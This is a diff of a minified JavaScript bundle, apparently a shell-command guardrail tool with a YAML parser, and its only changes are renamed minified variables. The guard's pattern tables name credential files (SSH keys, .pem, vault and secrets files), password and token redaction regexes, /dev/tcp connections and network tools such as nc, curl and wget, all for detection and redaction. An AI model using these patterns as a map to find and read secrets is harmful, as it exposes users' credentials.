@@ -4,9 +4,9 @@ o=-1,i=0,a=s,l=s;l--;)bs[t.charCodeAt(l)]|=1<<l;for(l=0;l<r;l++){var c=bs[e.char
 i),i&=d}for(l=s;l--;)bs[t.charCodeAt(l)]=0;return a},jS=function(t,e){for(var s=e.length,r=t.length,n=[],o=[],i=Math.ceil(s/32),a=Math.ceil(r/32),l=0;l<i;l++)o[l]=
 -1,n[l]=0;for(var c=0;c<a-1;c++){for(var d=0,u=-1,p=c*32,f=Math.min(32,r)+p,m=p;m<f;m++)bs[t.charCodeAt(m)]|=1<<m;for(var l=0;l<s;l++){var h=bs[e.charCodeAt(l)],
 g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|d,_=((h|y)&u)+u^u|h|y,E=d|~(_|u),$=u&_;E>>>31^g&&(o[l/32|0]^=1<<l),$>>>31^y&&(n[l/32|0]^=1<<l),E=E<<1|g,$=$<<1|y,u=$|~(x|
-E),d=E&x}for(var m=p;m<f;m++)bs[t.charCodeAt(m)]=0}for(var T=0,q=-1,A=c*32,O=Math.min(32,r-A)+A,m=A;m<O;m++)bs[t.charCodeAt(m)]|=1<<m;for(var K=r,l=0;l<s;l++){var h=bs[e.
-charCodeAt(l)],g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|T,_=((h|y)&q)+q^q|h|y,E=T|~(_|q),$=q&_;K+=E>>>r-1&1,K-=$>>>r-1&1,E>>>31^g&&(o[l/32|0]^=1<<l),$>>>31^y&&(n[l/
-32|0]^=1<<l),E=E<<1|g,$=$<<1|y,q=$|~(x|E),T=E&x}for(var m=A;m<O;m++)bs[t.charCodeAt(m)]=0;return K},eg=function(t,e){if(t.length<e.length){var s=e;e=t,t=s}return e.
+E),d=E&x}for(var m=p;m<f;m++)bs[t.charCodeAt(m)]=0}for(var T=0,q=-1,A=c*32,N=Math.min(32,r-A)+A,m=A;m<N;m++)bs[t.charCodeAt(m)]|=1<<m;for(var j=r,l=0;l<s;l++){var h=bs[e.
+charCodeAt(l)],g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|T,_=((h|y)&q)+q^q|h|y,E=T|~(_|q),$=q&_;j+=E>>>r-1&1,j-=$>>>r-1&1,E>>>31^g&&(o[l/32|0]^=1<<l),$>>>31^y&&(n[l/
+32|0]^=1<<l),E=E<<1|g,$=$<<1|y,q=$|~(x|E),T=E&x}for(var m=A;m<N;m++)bs[t.charCodeAt(m)]=0;return j},eg=function(t,e){if(t.length<e.length){var s=e;e=t,t=s}return e.
 length===0?t.length:t.length<=32?DS(t,e):jS(t,e)};Yr.distance=eg;var WS=function(t,e){for(var s=1/0,r=0,n=0;n<e.length;n++){var o=eg(t,e[n]);o<s&&(s=o,r=n)}return e[r]};
 Yr.closest=WS});function mr(t){return t.replace(FS,e=>{let s=e.codePointAt(0);return e===`
 `?"\\n":e==="\r"?"\\r":e==="	"?"\\t":s<256?`\\x${s.toString(16).padStart(2,"0")}`:s>65535?`\\u{${s.toString(16)}}`:`\\u${s.toString(16).padStart(4,"0")}`})}var MS,
@@ -177,8 +177,8 @@ ${Jn.indentComment(q,s.indent)}`}$===""&&!s.inFlow?T===`
 
 `):T+=`
 ${s.indent}`}else if(!f&&ws.isCollection(e)){let q=$[0],A=$.indexOf(`
-`),O=A!==-1,K=s.inFlow??e.flow??e.items.length===0;if(O||!K){let Ee=!1;if(O&&(q==="&"||q==="!")){let F=$.indexOf(" ");q==="&"&&F!==-1&&F<A&&$[F+1]==="!"&&(F=$.indexOf(
-" ",F+1)),(F===-1||A<F)&&(Ee=!0)}Ee||(T=`
+`),N=A!==-1,j=s.inFlow??e.flow??e.items.length===0;if(N||!j){let xe=!1;if(N&&(q==="&"||q==="!")){let V=$.indexOf(" ");q==="&"&&V!==-1&&V<A&&$[V+1]==="!"&&(V=$.indexOf(
+" ",V+1)),(V===-1||A<V)&&(xe=!0)}xe||(T=`
 ${s.indent}`)}}else($===""||$[0]===`
 `)&&(T="");return g+=T+$,s.inFlow?E&&r&&r():_&&!E?g+=Jn.lineComment(g,s.indent,c(_)):h&&n&&n(),g}nb.stringifyPair=yC});var xd=D(vd=>{"use strict";var ib=require("process");function wC(t,...e){t==="debug"&&console.log(...e)}function kC(t,e){(t==="debug"||t==="warn")&&(typeof ib.emitWarning==
 "function"?ib.emitWarning(e):console.warn(e))}vd.debug=wC;vd.warn=kC});var fa=D(pa=>{"use strict";var ua=re(),ab=qe(),ca="<<",da={identify:t=>t===ca||typeof t=="symbol"&&t.description===ca,default:"key",tag:"tag:yaml.org,2002:merge",
@@ -378,7 +378,7 @@ ${c}
 g=null,y=null,x=null,_=null,E=null,$=null;for(let A of t)switch(m&&(A.type!=="space"&&A.type!=="newline"&&A.type!=="comma"&&o(A.offset,"MISSING_CHAR","Tags and \
 anchors must be separated from the next token by white space"),m=!1),h&&(c&&A.type!=="comment"&&A.type!=="newline"&&o(h,"TAB_AS_INDENT","Tabs are not allowed as\
  indentation"),h=null),A.type){case"space":!e&&(s!=="doc-start"||r?.type!=="flow-collection")&&A.source.includes("	")&&(h=A),d=!0;break;case"comment":{d||o(A,"M\
-ISSING_CHAR","Comments must be separated from other tokens by white space characters");let O=A.source.substring(1)||" ";u?u+=p+O:u=O,p="",c=!1;break}case"newlin\
+ISSING_CHAR","Comments must be separated from other tokens by white space characters");let N=A.source.substring(1)||" ";u?u+=p+N:u=N,p="",c=!1;break}case"newlin\
 e":c?u?u+=A.source:(!E||s!=="seq-item-ind")&&(l=!0):p+=A.source,c=!0,f=!0,(g||y)&&(x=A),d=!0;break;case"anchor":g&&o(A,"MULTIPLE_ANCHORS","A node can have at mo\
 st one anchor"),A.source.endsWith(":")&&o(A.offset+A.source.length-1,"BAD_ALIAS","Anchor ending in : is ambiguous",!0),g=A,$??($=A.offset),c=!1,d=!1,m=!0;break;case"\
 tag":{y&&o(A,"MULTIPLE_TAGS","A node can have at most one tag"),y=A,$??($=A.offset),c=!1,d=!1,m=!0;break}case s:(g||y)&&o(A,"BAD_PROP_ORDER",`Anchors and tags m\
@@ -423,15 +423,15 @@ s need to be on a single line")}if(g===0)T.comma&&n(T.comma,"UNEXPECTED_TOKEN",`
 een ${a} items`),T.comment){let q="";e:for(let A of x)switch(A.type){case"comma":case"space":break;case"comment":q=A.source.substring(1);break e;default:break e}
 if(q){let A=c.items[c.items.length-1];$A.isPair(A)&&(A=A.value??A.key),A.comment?A.comment+=`
 `+q:A.comment=q,T.comment=T.comment.substring(q.length+1)}}if(!i&&!E&&!T.found){let q=$?t(s,$,T,n):e(s,T.end,E,null,T,n);c.items.push(q),u=q.range[2],hu($)&&n(q.
-range,"BLOCK_IN_FLOW",mu)}else{s.atKey=!0;let q=T.end,A=_?t(s,_,T,n):e(s,q,x,null,T,n);hu(_)&&n(A.range,"BLOCK_IN_FLOW",mu),s.atKey=!1;let O=Ay.resolveProps(E??
-[],{flow:a,indicator:"map-value-ind",next:$,offset:A.range[2],onError:n,parentIndent:r.indent,startOnNewline:!1});if(O.found){if(!i&&!T.found&&s.options.strict){
-if(E)for(let F of E){if(F===O.found)break;if(F.type==="newline"){n(F,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line");
-break}}T.start<O.found.offset-1024&&n(O.found,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit flow sequence key")}}else
-$&&("source"in $&&$.source?.[0]===":"?n($,"MISSING_CHAR",`Missing space after : in ${a}`):n(O.start,"MISSING_CHAR",`Missing , or : between ${a} items`));let K=$?
-t(s,$,O,n):O.found?e(s,O.end,E,null,O,n):null;K?hu($)&&n(K.range,"BLOCK_IN_FLOW",mu):O.comment&&(A.comment?A.comment+=`
-`+O.comment:A.comment=O.comment);let Ee=new _A.Pair(A,K);if(s.options.keepSourceTokens&&(Ee.srcToken=y),i){let F=c;AA.mapIncludes(s,F.items,A)&&n(q,"DUPLICATE_K\
-EY","Map keys must be unique"),F.items.push(Ee)}else{let F=new Ey.YAMLMap(s.schema);F.flow=!0,F.items.push(Ee);let ye=(K??A).range;F.range=[A.range[0],ye[1],ye[2]],
-c.items.push(F)}u=K?K.range[2]:O.end}}let p=i?"}":"]",[f,...m]=r.end,h=u;if(f?.source===p)h=f.offset+f.source.length;else{let g=a[0].toUpperCase()+a.substring(1),
+range,"BLOCK_IN_FLOW",mu)}else{s.atKey=!0;let q=T.end,A=_?t(s,_,T,n):e(s,q,x,null,T,n);hu(_)&&n(A.range,"BLOCK_IN_FLOW",mu),s.atKey=!1;let N=Ay.resolveProps(E??
+[],{flow:a,indicator:"map-value-ind",next:$,offset:A.range[2],onError:n,parentIndent:r.indent,startOnNewline:!1});if(N.found){if(!i&&!T.found&&s.options.strict){
+if(E)for(let V of E){if(V===N.found)break;if(V.type==="newline"){n(V,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line");
+break}}T.start<N.found.offset-1024&&n(N.found,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit flow sequence key")}}else
+$&&("source"in $&&$.source?.[0]===":"?n($,"MISSING_CHAR",`Missing space after : in ${a}`):n(N.start,"MISSING_CHAR",`Missing , or : between ${a} items`));let j=$?
+t(s,$,N,n):N.found?e(s,N.end,E,null,N,n):null;j?hu($)&&n(j.range,"BLOCK_IN_FLOW",mu):N.comment&&(A.comment?A.comment+=`
+`+N.comment:A.comment=N.comment);let xe=new _A.Pair(A,j);if(s.options.keepSourceTokens&&(xe.srcToken=y),i){let V=c;AA.mapIncludes(s,V.items,A)&&n(q,"DUPLICATE_K\
+EY","Map keys must be unique"),V.items.push(xe)}else{let V=new Ey.YAMLMap(s.schema);V.flow=!0,V.items.push(xe);let ye=(j??A).range;V.range=[A.range[0],ye[1],ye[2]],
+c.items.push(V)}u=j?j.range[2]:N.end}}let p=i?"}":"]",[f,...m]=r.end,h=u;if(f?.source===p)h=f.offset+f.source.length;else{let g=a[0].toUpperCase()+a.substring(1),
 y=d?`${g} must end with a ${p}`:`${g} in block collection must be sufficiently indented and end with a ${p}`;n(u,d?"MISSING_CHAR":"BAD_INDENT",y),f&&f.source.length!==
 1&&m.unshift(f)}if(m.length>0){let g=CA.resolveEnd(m,h,s.options.strict,n);g.comment&&(c.comment?c.comment+=`
 `+g.comment:c.comment=g.comment),c.range=[r.offset,h,g.offset]}else c.range=[r.offset,h,h];return c}Ty.resolveFlowCollection=TA});var Iy=D(Ry=>{"use strict";var PA=re(),RA=qe(),IA=Hs(),qA=Bs(),OA=$y(),NA=Sy(),LA=Py();function gu(t,e,s,r,n,o){let i=s.type==="block-map"?OA.resolveBlockMap(t,
@@ -920,15 +920,15 @@ let s=`${dk(e)}
 `,r=(0,dt.openSync)(t,DP,384);try{if(!(0,dt.fstatSync)(r).isFile())throw Object.assign(new Error(`${t} is not a file`),{code:"not a file"});(0,dt.writeSync)(r,s)}finally{
 (0,dt.closeSync)(r)}}var dt,LP,ck,DP,jP,pk=Ue(()=>{"use strict";dt=require("node:fs");Qr();lk();LP=64*1024,ck=2e3,DP=dt.constants.O_WRONLY|dt.constants.O_CREAT|
 dt.constants.O_APPEND|dt.constants.O_NOFOLLOW|dt.constants.O_NONBLOCK,jP=[/(\b[a-z][a-z0-9+.-]*:\/\/[^\s/:@"']*:)[^\s/@"']+(?=@)/gi,/((?:^|\s)(?:-u|-U|--user|--proxy-user)[ =]?["']?[^\s:"'/]+:)[^\s"']+/g,
-/((?:^|[\s;&?"'{,])-{0,2}[\w-]*(?:password|passwd|passphrase|secret|token|api[-_]?key)["']?\s*[=: ]\s*["']?)[^\s"'&;$]+/gi,/(\b(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|sshpass)\b[^|;&]*?\s-p ?["']?)[^\s"'-][^\s"']*/g]});var eR={};Ya(eR,{CLOSED_CONTAINER:()=>$r,GuardrailSuite:()=>Bi,NON_EMPTY_VALUE:()=>Gu,OWN_CONTAINER:()=>_r,SEVERITY_ORDER:()=>Mt,UNKNOWN_VALUE:()=>k,UNREAD_VALUE:()=>U,
-codeLanguages:()=>Ek,completeName:()=>$o,concatenateWords:()=>ie,createGuard:()=>qs,createShellInvocation:()=>Et,createShippedGuard:()=>LS,createWord:()=>R,createWords:()=>xe,
+/((?:^|[\s;&?"'{,])-{0,2}[\w-]*(?:password|passwd|passphrase|secret|token|api[-_]?key)["']?\s*[=: ]\s*["']?)[^\s"'&;$]+/gi,/(\b(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|sshpass)\b[^|;&]*?\s-p ?["']?)[^\s"'-][^\s"']*/g]});var eR={};Ya(eR,{CLOSED_CONTAINER:()=>$r,GuardrailSuite:()=>Bi,NON_EMPTY_VALUE:()=>Gu,OWN_CONTAINER:()=>_r,SEVERITY_ORDER:()=>Mt,UNKNOWN_VALUE:()=>k,UNREAD_VALUE:()=>H,
+codeLanguages:()=>Ek,completeName:()=>$o,concatenateWords:()=>ie,createGuard:()=>qs,createShellInvocation:()=>Et,createShippedGuard:()=>LS,createWord:()=>R,createWords:()=>$e,
 findAffectedPaths:()=>vn,findDeletedPaths:()=>Fl,getDeletedPatterns:()=>si,getFeeders:()=>de,getFindPatterns:()=>kn,getGrammar:()=>Cr,guardLevels:()=>ir,hasFlag:()=>pe,
-hasUnreadValue:()=>je,isKnownWord:()=>Ie,isRemotePath:()=>ri,listOutputFiles:()=>dn,parseProgramArguments:()=>$e,pathClasses:()=>Ak,pathEffects:()=>cn,phraseRules:()=>Ui,
+hasUnreadValue:()=>je,isKnownWord:()=>Ie,isRemotePath:()=>ri,listOutputFiles:()=>dn,parseProgramArguments:()=>_e,pathClasses:()=>Ak,pathEffects:()=>cn,phraseRules:()=>Ui,
 readCode:()=>Jo,readCommand:()=>Mi,replaceWithUnevaluated:()=>Pe,replaceWithUnknown:()=>Lt,resolveFoundPaths:()=>or,runHook:()=>zP,shippedGuardRules:()=>Hi,vocabulary:()=>S,
-writeLine:()=>ue});module.exports=Ck(eR);var Yu=require("node:path");var k="\uFFFC";var U="\uFFFC\uFFFB",Gu="\uFFFC\u2026",je=t=>t.includes("\uFFFB"),Lt=t=>je(t)?"\uFFFC\uFFFB":"\uFFFC",Pe=t=>t.includes("\uFFFC")&&!je(t)?"\uFFFC":"\uFFFC\uFFFB",
-R=(t,e=!1)=>({text:t,glob:e}),xe=t=>t.map(e=>R(e)),ie=t=>({text:t.map(({text:e})=>e).join(" "),glob:t.some(({glob:e})=>e)}),Ie=({text:t})=>!t.includes("\uFFFC"),
+writeLine:()=>ue});module.exports=Ck(eR);var Yu=require("node:path");var k="\uFFFC";var H="\uFFFC\uFFFB",Gu="\uFFFC\u2026",je=t=>t.includes("\uFFFB"),Lt=t=>je(t)?"\uFFFC\uFFFB":"\uFFFC",Pe=t=>t.includes("\uFFFC")&&!je(t)?"\uFFFC":"\uFFFC\uFFFB",
+R=(t,e=!1)=>({text:t,glob:e}),$e=t=>t.map(e=>R(e)),ie=t=>({text:t.map(({text:e})=>e).join(" "),glob:t.some(({glob:e})=>e)}),Ie=({text:t})=>!t.includes("\uFFFC"),
 Ek=["shell","python","javascript","perl","ruby","php","awk","sql","other"],ue=({program:t,args:e})=>[t,...e.map(({text:s})=>s)].join(" "),de=({input:t})=>t?.kind===
-"pipe"?t.from:[],$r="closed-container",_r="own-container",Et=(t,e,s=[],r)=>({program:t,path:t,args:e,redirects:s,environment:{},wrappers:[],language:"shell",folder:r});var B=JSON.parse(`{"arguments":{"grammars":{"git":{"long":["git-dir","work-tree","namespace","exec-path","config-env"]},"git commit":{"short":"mFcCt","long":["m\
+"pipe"?t.from:[],$r="closed-container",_r="own-container",Et=(t,e,s=[],r)=>({program:t,path:t,args:e,redirects:s,environment:{},wrappers:[],language:"shell",folder:r});var z=JSON.parse(`{"arguments":{"grammars":{"git":{"long":["git-dir","work-tree","namespace","exec-path","config-env"]},"git commit":{"short":"mFcCt","long":["m\
 essage","file","author","date","template","trailer","fixup","squash","reuse-message"]},"git tag":{"short":"mFu","long":["message","file","sort","format","local-\
 user"]},"git merge":{"short":"mFsX","long":["message","file","strategy","strategy-option"]},"git notes":{"short":"mFcC","long":["message","file"]},"git stash":{\
 "short":"m","long":["message"]},"git push":{"short":"o","long":["push-option","repo","receive-pack","exec"]},"git log":{"short":"nSGL","long":["grep","author","\
@@ -1379,1331 +1379,1331 @@ $"],"shell_program":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(
 eclare|local|set|alias|mkdir(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\\.)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\
 \\w+| pipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["\
 ^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use|no|require)\\\\b"],\
-"checking_option":["^(?:c|check|[eElwW])$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter":["^(?:s\
-tripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*\
-)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?index|match|capture|scan|[lr]trimstr|er\
-ror|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\\
-u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|tojson|i\
-nput)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|known_hos\
-ts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|private/t\
-mp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|library)/[^/]\
-+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\.d|keyri\
-ngs|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^(tmp|temp|test|scratch|demo|dummy|build\
-|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated)$|.+\\\\.(egg-info|dist-info|py\
-c|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.js|mi\
-n\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"local_connection":["^/dev/(tcp|udp)/(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[\
-?::1\\\\]?|[a-z][\\\\w-]*)/"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connect|Mongo)\
-\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|awk|pyth\
-on[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\S]*[\
-\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredis\\\\.p?ca\
-ll\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|keystore|\
-kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging|dev|db|\
-my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite\
-)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|con\
-f|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|access|a\
-uth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures\
-?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|client|lo\
-calhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recovery|perf\
-logs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|-\
--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])\
-*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:\
--d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0\
--9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\
-\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"line_filter":["^(?:cat|\
-[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|kubectl get|oc get) ?"],"secret_lis\
-ting":["^(?:kubectl|oc)$"],"counter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\
-\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:exampl\
-e|sample|template|tpl|dist|defaults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Z\
-a-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command\
-":["[\\\\s;{}!]+|#.*|\\\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\
-\\\\k<quote>)[^\\\\\\\\[])*\\\\k<quote>|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\])(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[])*\\\\k\
-<delimiter>)(?<replacement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*\\\\k<delimiter>)(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\\\\\\\\])\
-(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)|e(?<c\
-ommand>.*)|[wW](?<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\\
-x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\
-\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive"\
-:["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d\
-[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\
